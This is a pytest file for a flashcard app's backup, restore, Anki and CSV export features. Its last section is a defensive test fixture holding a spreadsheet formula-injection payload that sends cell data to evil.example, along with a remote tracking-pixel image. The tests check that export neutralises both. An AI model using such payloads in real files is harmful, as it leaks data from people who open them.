"""Export and backup on real SQLite files: JSON export, restore, export again (identical);
Anki packages and Anki text; and the `export` / `restore` commands in a subprocess."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import backends
import pytest
from sqlalchemy import insert
from support import cards_as_schema_4
from test_cli import assert_no_traceback, dump, run, table

from studyaws.core.clock import FakeClock
from studyaws.core.config import DB_NAME
from studyaws.core.srs import policy
from studyaws.services.exchange import RestoreError
from studyaws.services.exchange.anki_export import collect_notes, csv_text, write_apkg, write_csv
from studyaws.services.exchange.json_dump import export_json, restore_json
from studyaws.services.importer import import_paths
from studyaws.services.review import ReviewService
from studyaws.store.engine import SCHEMA_VERSION, open_engine, writing
from studyaws.store.settings import save_setting
from studyaws.store.tables import Exam, ExamQuestion

SAMPLES = Path(__file__).parent / "samples"
NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)

DECK = """\
---
title: RDS essentials
domain: resilient
tags: rds, backups
---
# RDS

## Backups

Automated backups keep a daily snapshot and the transaction logs.

Q: How long can RDS keep automated backups? {#rds-retention}
A: From 1 to 35 days.

> Zero turns them off.

Read replica replication ::: asynchronous

C: {{c1::Aurora}} keeps {{c2::six}} copies of your data.

A company must restore its database to ten minutes ago. What happens?

- [ ] The instance is rolled back in place.
- [x] A new DB instance is created.
- [ ] A read replica is promoted.

> A point-in-time restore always creates a new instance.

Order: Put the restore steps in order.
1. Pick a time
2. Restore to a new instance
3. Point the application at it

Q: What is the maximum retention, in days?
A: = 35

```scenario nacl
rules: 4-6
```
"""
DECK_CARDS = 9  # basic, 2 reverse, 2 cloze, choice, ordering, numeric, scenario


def full_collection(tmp_path: Path):
    """A collection with decks, reviews, changed settings and a finished exam."""
    deck = tmp_path / "rds.md"
    deck.write_text(DECK, encoding="utf-8")
    engine = backends.open_test_engine(tmp_path / "home" / DB_NAME)
    import_paths(engine, [deck, SAMPLES / "storage.gift", SAMPLES / "notes-anki.txt"], NOW)
    save_setting(engine, "desired-retention", "0.85")
    save_setting(engine, "learning-steps", "2 15")
    clock = FakeClock(NOW)
    service = ReviewService(engine, clock)
    for rating in (policy.GOOD, policy.AGAIN, policy.EASY, policy.HARD, policy.GOOD):
        view = service.next_card()
        service.answer(view, rating, 2500)
        clock.advance(timedelta(minutes=3))
    with writing(engine) as session:
        exam_id = session.execute(insert(Exam).values(
            preset="quick", mode="exam", status="finished", started_at=NOW,
            finished_at=NOW + timedelta(minutes=20), time_limit_s=1200.0, remaining_s=12.5,
            current=1, pass_mark=720, correct=1, total=2, scaled=640, passed=False,
            settings='{"questions": 2}')).inserted_primary_key[0]
        session.execute(insert(ExamQuestion), [
            {"exam_id": exam_id, "position": 0, "card_id": 1, "domain": "resilient",
             "seed": 11, "response": '{"chosen": [1]}', "correct": True, "flagged": False,
             "seconds": 31.25, "answered_at": NOW + timedelta(minutes=2)},
            {"exam_id": exam_id, "position": 1, "card_id": 6, "domain": None, "seed": 12,
             "response": "", "correct": None, "flagged": True, "seconds": 0.0,
             "answered_at": None},
        ])
    return engine


# -- JSON --------------------------------------------------------------------------------


def test_json_export_restore_export_is_byte_identical(tmp_path: Path):
    engine = full_collection(tmp_path)
    first = export_json(engine)
    data = json.loads(first)
    assert (data["format"], data["version"], data["schema"]) == ("studyaws-backup", 1, SCHEMA_VERSION)
    tables = data["tables"]
    assert set(tables) >= {"deck", "card", "card_state", "review_log", "setting", "exam",
                           "exam_question"}
    assert len(tables["review_log"]) == 5
    assert len(tables["exam_question"]) == 2
    assert {"key": "desired-retention", "value": "0.85"} in tables["setting"]
    assert tables["exam_question"][1]["flagged"] is True

    backup = tmp_path / "backup.json"
    backup.write_text(first, encoding="utf-8")
    fresh = tmp_path / "fresh" / DB_NAME
    counts = backends.restore_test_json(backup, fresh).counts
    assert counts["review_log"] == 5 and counts["exam"] == 1
    restored = backends.open_test_engine(fresh)
    assert export_json(restored) == first
    # The restored database is the same, table by table and row by row.
    engine.dispose()
    restored.dispose()
    assert dump(fresh) == dump(tmp_path / "home" / DB_NAME)


SCHEMA4_EXPORT = Path(__file__).parent / "fixtures" / "schema4-export.json"


@pytest.mark.sqlite_only  # restore_json writes a SQLite file (PostgreSQL's restore: test_postgres)
def test_a_schema_4_json_export_restores_with_each_shared_text_once(tmp_path: Path):
    """An export from before shared_text (tests/fixtures/make_schema4.py): every card kept
    its section's notes, every cloze card the cloze's text. Restored, each text is kept once
    and every card shows what it showed; exported again and restored, the same bytes."""
    old = json.loads(SCHEMA4_EXPORT.read_text("utf-8"))
    assert old["schema"] == 4 and "context" in old["tables"]["card"][0]
    first = tmp_path / "first" / DB_NAME
    counts = restore_json(SCHEMA4_EXPORT, first).counts
    assert (counts["card"], counts["shared_text"], counts["review_log"]) == (19, 5, 6)
    columns = [name for name in old["tables"]["card"][0] if name != "key"]
    assert cards_as_schema_4(first, columns) == [
        tuple(card[name] for name in columns) for card in old["tables"]["card"]]
    with sqlite3.connect(first) as conn:
        texts = [row[0] for row in conn.execute("select text from shared_text")]
        keys = [row[0] for row in conn.execute("select key from card order by id")]
        logs = conn.execute("select id, card_id, rating, reviewed_at from review_log"
                            " order by id").fetchall()
    assert len(texts) == len(set(texts)) == 5
    assert max(map(len, keys)) < 300  # the keys of texts of over 1,000 characters shortened
    assert logs == [(r["id"], r["card_id"], r["rating"], r["reviewed_at"])
                    for r in old["tables"]["review_log"]]

    engine = open_engine(first)
    exported = export_json(engine)
    engine.dispose()
    assert json.loads(exported)["schema"] == SCHEMA_VERSION
    again = tmp_path / "again.json"
    again.write_text(exported, encoding="utf-8")
    second = tmp_path / "second" / DB_NAME
    restore_json(again, second)
    engine = open_engine(second)
    try:
        assert export_json(engine) == exported
    finally:
        engine.dispose()


@pytest.mark.sqlite_only  # restore_json writes a SQLite file (PostgreSQL's restore: test_postgres)
def test_a_schema_5_json_export_files_each_domain_under_its_exam(tmp_path: Path):
    """Schema 5 kept one `domain` a card; restored, it goes to its exam's column."""
    engine = full_collection(tmp_path)
    current = json.loads(export_json(engine))
    engine.dispose()
    old = json.loads(json.dumps(current))
    old["schema"] = 5
    slugs = ["resilient", "billing-support", None]
    for n, card in enumerate(old["tables"]["card"]):
        for column in ("saa_domain", "clf_domain", "domain_inferred"):
            card.pop(column)
        card["domain"] = slugs[n % 3]
    backup = tmp_path / "schema5.json"
    backup.write_text(json.dumps(old), encoding="utf-8")
    restored = tmp_path / "restored" / DB_NAME
    restore_json(backup, restored)
    with sqlite3.connect(restored) as conn:
        rows = conn.execute("select saa_domain, clf_domain, domain_inferred from card"
                            " order by id").fetchall()
    assert rows == [({"resilient": ("resilient", None), "billing-support":
                      (None, "billing-support")}.get(slugs[n % 3], (None, None)) + (0,))
                    for n in range(len(rows))]


def test_restored_collection_keeps_schedule_and_history(tmp_path: Path):
    engine = full_collection(tmp_path)
    backup = tmp_path / "backup.json"
    backup.write_text(export_json(engine), encoding="utf-8")
    fresh = tmp_path / "fresh" / DB_NAME
    backends.restore_test_json(backup, fresh)
    restored = backends.open_test_engine(fresh)
    original = ReviewService(engine, FakeClock(NOW + timedelta(minutes=30))).counts()
    again = ReviewService(restored, FakeClock(NOW + timedelta(minutes=30))).counts()
    assert again == original
    from studyaws.store.settings import load_settings

    assert load_settings(restored).learning_steps == (2, 15)


def test_a_json_export_before_schema_14_restores_each_memory_with_its_deck(tmp_path: Path):
    """Schema 14 keeps each card's deck in its memory (the day's counts read it there); a
    backup made before has none, and one that says another deck is not believed."""
    engine = full_collection(tmp_path)
    current = json.loads(export_json(engine))
    clock = FakeClock(NOW + timedelta(minutes=30))
    original = ReviewService(engine, clock).day_plan().decks
    engine.dispose()
    assert all(row["deck_id"] is not None for row in current["tables"]["card_state"])
    old = json.loads(json.dumps(current))
    old["schema"] = 13
    for n, row in enumerate(old["tables"]["card_state"]):
        if n % 2:
            row.pop("deck_id")
        else:
            row["deck_id"] = 999
    backup = tmp_path / "schema13.json"
    backup.write_text(json.dumps(old), encoding="utf-8")
    restored = tmp_path / "restored" / DB_NAME
    restore_json(backup, restored)
    with sqlite3.connect(restored) as conn:
        wrong = conn.execute("select count(*) from card_state s join card c on c.id = s.card_id"
                             " where s.deck_id is not c.deck_id").fetchone()[0]
    assert wrong == 0
    again = open_engine(restored)
    try:
        assert ReviewService(again, clock).day_plan().decks == original
    finally:
        again.dispose()


@pytest.mark.parametrize(("edit", "message"), [
    (lambda d: d.update(format="other"), "not a studyaws JSON backup"),
    (lambda d: d.update(schema=99), "made by a newer studyaws (schema 99"),
    (lambda d: d["tables"].update(secrets=[]), "unknown table 'secrets'"),
    (lambda d: d["tables"]["card"][0].update(evil="x"), "unknown column 'evil'"),
    (lambda d: d["tables"]["card"][0].update(created_at="yesterday"),
     "created_at is not a stored time: 'yesterday'"),
    (lambda d: d["tables"]["card_state"][0].update(card_id=99999), "FOREIGN KEY"),
    (lambda d: d["tables"]["card"].append(dict(d["tables"]["card"][0])), "UNIQUE"),
])
@pytest.mark.sqlite_only  # restore_json writes a SQLite file (PostgreSQL's restore: test_postgres)
def test_a_bad_backup_changes_nothing(tmp_path: Path, edit, message: str):
    engine = full_collection(tmp_path)
    data = json.loads(export_json(engine))
    edit(data)
    backup = tmp_path / "bad.json"
    backup.write_text(json.dumps(data), encoding="utf-8")
    target = tmp_path / "target"
    target.mkdir()
    with pytest.raises(RestoreError) as info:
        restore_json(backup, target / DB_NAME)
    assert message in str(info.value)
    assert list(target.iterdir()) == []  # no database, no temporary file left behind


@pytest.mark.sqlite_only  # restore_json writes a SQLite file (PostgreSQL's restore: test_postgres)
def test_restore_over_an_existing_collection_swaps_it_and_keeps_a_copy(tmp_path: Path):
    engine = full_collection(tmp_path)
    backup = tmp_path / "backup.json"
    backup.write_text(export_json(engine), encoding="utf-8")
    other = tmp_path / "other"
    other_engine = open_engine(other / DB_NAME)
    deck = tmp_path / "small.md"
    deck.write_text("# Small\n\nQ: a\nA: b\n", encoding="utf-8")
    import_paths(other_engine, [deck], NOW)
    other_engine.dispose()
    kept = restore_json(backup, other / DB_NAME).kept
    assert table(other / DB_NAME, "SELECT count(*) FROM deck") == [(3,)]
    assert kept.parent == other / "backups" and kept.name.startswith("before-restore-")
    assert table(kept, "SELECT title FROM deck") == [("Small",)]
    assert not (other / f"{DB_NAME}-wal").exists()
    # The backup's picture (of notes-anki.txt) is written back beside the database.
    assert sorted(p.name for p in other.iterdir()) == ["backups", "media", DB_NAME]
    assert list((other / "backups").iterdir()) == [kept]


@pytest.mark.sqlite_only  # restore_json writes a SQLite file (PostgreSQL's restore: test_postgres)
def test_restore_refuses_a_collection_open_in_another_program(tmp_path: Path):
    engine = full_collection(tmp_path)
    backup = tmp_path / "backup.json"
    backup.write_text(export_json(engine), encoding="utf-8")
    live = tmp_path / "home" / DB_NAME
    holder = sqlite3.connect(live)
    holder.execute("BEGIN IMMEDIATE")  # another program in the middle of a write
    try:
        with pytest.raises(RestoreError):
            restore_json(backup, live)
    finally:
        holder.rollback()
        holder.close()
    assert len(json.loads(export_json(engine))["tables"]["review_log"]) == 5


# -- Anki --------------------------------------------------------------------------------


def test_apkg_is_a_zip_with_a_collection_of_notes(tmp_path: Path):
    engine = full_collection(tmp_path)
    out = tmp_path / "study.apkg"
    report = write_apkg(engine, out)
    # RDS: basic, reverse pair, cloze (2 groups), choice, ordering, numeric = 6 notes
    # (the scenario is left out); GIFT: 11 notes; Anki text: 6 notes.
    assert (report.notes, report.scenarios_left_out, report.decks) == (6 + 11 + 6, 1, 3)
    assert zipfile.is_zipfile(out)
    with zipfile.ZipFile(out) as package:
        names = package.namelist()
        assert "collection.anki2" in names
        package.extract("collection.anki2", tmp_path / "unpacked")
    conn = sqlite3.connect(tmp_path / "unpacked" / "collection.anki2")
    try:
        notes = conn.execute("SELECT count(*) FROM notes").fetchone()[0]
        cards = conn.execute("SELECT count(*) FROM cards").fetchone()[0]
        guids = {g for (g,) in conn.execute("SELECT guid FROM notes")}
        fields = [f for (f,) in conn.execute("SELECT flds FROM notes")]
    finally:
        conn.close()
    assert notes == report.notes
    assert cards == notes + 1 + 1 + 1 + 1  # each reverse pair and two-group cloze: one more
    assert {"rds-retention", "aws-vpc-001", "aws-db-001"} <= guids
    choice = next(f for f in fields if f.startswith("<p>A company must restore"))
    assert "A. The instance is rolled back in place.<br />" in choice
    assert "B. A new DB instance is created." in choice.split("\x1f")[1]
    assert any("{{c1::Aurora}} keeps {{c2::six}}" in f for f in fields)


def test_csv_export_headers_and_guids_and_reimport_updates_in_place(tmp_path: Path):
    engine = full_collection(tmp_path)
    out = tmp_path / "study.txt"
    write_csv(engine, out)
    text = out.read_text(encoding="utf-8")
    assert text.startswith("#separator:tab\n#html:false\n#guid column:1\n")
    notes, _ = collect_notes(engine)
    assert csv_text(notes) == text
    rows = list(csv.reader(io.StringIO(text.split("#tags column:6\n", 1)[1]), delimiter="\t"))
    assert all(len(row) == 6 for row in rows)
    guids = [row[0] for row in rows]
    assert "rds-retention" in guids
    assert len(set(guids)) == len(notes)

    # The text imports back into studyaws; a second export gives the same guids, and a
    # re-import after an edit updates the card in place.
    home = backends.open_test_engine(tmp_path / "again" / DB_NAME)
    report = import_paths(home, [out], NOW)
    assert report.total()["added"] == DECK_CARDS - 1 + 11 + 8  # no scenario
    assert report.skipped == []
    out.write_text(text.replace("From 1 to 35 days.", "From 1 to 35 days (default 7)."),
                   encoding="utf-8")
    again = import_paths(home, [out], NOW + timedelta(days=1))
    assert again.total()["updated"] == 1 and again.total()["added"] == 0


# -- the commands ------------------------------------------------------------------------


def test_cli_export_restore_round_trip(tmp_path: Path):
    home = tmp_path / "home"
    engine = full_collection(tmp_path)
    engine.dispose()
    first = tmp_path / "one.json"
    result = run("export", "--format", "json", "-o", str(first), home=home)
    assert result.returncode == 0, result.stderr
    assert result.stdout == f"wrote {first}: the whole collection as JSON\n"

    fresh = tmp_path / "fresh"
    result = run("restore", str(first), home=fresh)
    assert result.returncode == 0, result.stderr
    where = fresh / DB_NAME
    if backends.on_postgres():  # the database the URL names, without its password
        from studyaws.store.postgres import redact

        where = redact(backends.collection_target(fresh / DB_NAME))
    assert result.stdout.startswith(f"restored {where} from {first}; rows: ")
    assert " deck 3," in result.stdout
    second = tmp_path / "two.json"
    assert run("export", "-o", str(second), home=fresh).returncode == 0
    assert second.read_bytes() == first.read_bytes()
    stdout = run("export", "-o", "-", home=fresh)
    assert stdout.stdout == first.read_text(encoding="utf-8")

    refused = run("restore", str(first), home=fresh)
    assert refused.returncode == 1
    assert "already has 3 decks" in refused.stderr and "--force" in refused.stderr
    forced = run("restore", "--force", str(first), home=fresh)
    assert forced.returncode == 0, forced.stderr
    kept = next((fresh / "backups").glob(  # PostgreSQL's: its JSON export
        "studyaws-*-replaced*.json" if backends.on_postgres() else "before-restore-*.sqlite3"))
    assert forced.stdout.splitlines()[-1] == f"the replaced collection was kept as {kept}"


def test_cli_restore_errors_are_one_line(tmp_path: Path, tmp_home: Path):
    junk = tmp_path / "junk.json"
    junk.write_text("{not json", encoding="utf-8")
    result = run("restore", str(junk), home=tmp_home)
    assert result.returncode == 1
    assert_no_traceback(result)
    assert result.stderr == f"studyaws restore: {junk}:1: not valid JSON " \
                            "(Expecting property name enclosed in double quotes)\n"
    missing = run("restore", str(tmp_path / "nope.json"), home=tmp_home)
    assert missing.returncode == 1
    assert missing.stderr == f"studyaws restore: {tmp_path / 'nope.json'}: no such file\n"
    assert not (tmp_home / DB_NAME).exists()


def test_cli_export_apkg_and_csv(tmp_path: Path):
    home = tmp_path / "home"
    full_collection(tmp_path).dispose()
    apkg = tmp_path / "out.apkg"
    result = run("export", "--format", "apkg", "-o", str(apkg), home=home)
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == [
        f"wrote {apkg}: 23 notes (27 cards) from 3 decks",
        "1 generated scenario left out: they are drawn at review time and have no fixed text",
    ]
    assert zipfile.is_zipfile(apkg)
    csv_out = tmp_path / "out.csv"
    assert run("export", "--format", "csv", "-o", str(csv_out), home=home).returncode == 0
    assert csv_out.read_text(encoding="utf-8").startswith("#separator:tab\n")
    no_file = run("export", "--format", "apkg", "-o", "-", home=home)
    assert no_file.returncode == 2
    if not backends.on_postgres():  # a data folder without its SQLite file
        empty = run("export", "-o", str(tmp_path / "x.json"), home=tmp_path / "nobody")
        assert empty.returncode == 1 and "no collection" in empty.stderr


def test_cli_start_up_does_not_load_exporters_or_parsers():
    import subprocess
    import sys

    # studyaws.core.formats itself is the light table of format names the help lists.
    code = ("import sys, studyaws.cli.main; "
            "print(sorted(m for m in sys.modules if m.startswith(('genanki', "
            "'studyaws.core.formats.', 'studyaws.services.exchange'))))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True).stdout
    assert out.strip() == "[]"


# -- what a spreadsheet or Anki would do with exported text ---------------------------------

RISKY = """\
# Sheets

Q: =HYPERLINK("http://evil.example/?"&A1, "click")
A: +1 is not a formula here

Q: @SUM(1, 2)
A: - a list item
- another

Q: What does this diagram show?
A: ![VPC diagram](http://tracker.example/pixel.png) and ![local](diagram.png)
"""


def _risky_collection(tmp_path: Path):
    deck = tmp_path / "sheets.md"
    deck.write_text(RISKY, encoding="utf-8")
    shutil.copy(SAMPLES / "lifecycle.png", tmp_path / "diagram.png")
    engine = backends.open_test_engine(tmp_path / "risky" / DB_NAME)
    import_paths(engine, [deck], NOW)
    return engine


def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path: Path):
    notes, _ = collect_notes(_risky_collection(tmp_path))
    text = csv_text(notes)
    rows = list(csv.reader(io.StringIO(text.split("#tags column:6\n", 1)[1]), delimiter="\t"))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")" in cells
    assert "'+1 is not a formula here" in cells
    assert "'@SUM(1, 2)" in cells
    assert any(c.startswith("'- a list item") for c in cells)


def test_apkg_keeps_remote_images_out(tmp_path: Path):
    out = tmp_path / "risky.apkg"
    write_apkg(_risky_collection(tmp_path), out)
    with zipfile.ZipFile(out) as package:
        package.extract("collection.anki2", tmp_path / "unpacked")
    conn = sqlite3.connect(tmp_path / "unpacked" / "collection.anki2")
    try:
        fields = "\n".join(f for (f,) in conn.execute("SELECT flds FROM notes"))
    finally:
        conn.close()
    # The remote picture was never fetched: named in words; the local one, copied into
    # the collection at the import, travels in the package (tests/test_images.py).
    assert "tracker.example" not in fields and "[image: VPC diagram]" in fields
    assert '<img src="' in fields and 'alt="local"' in fields
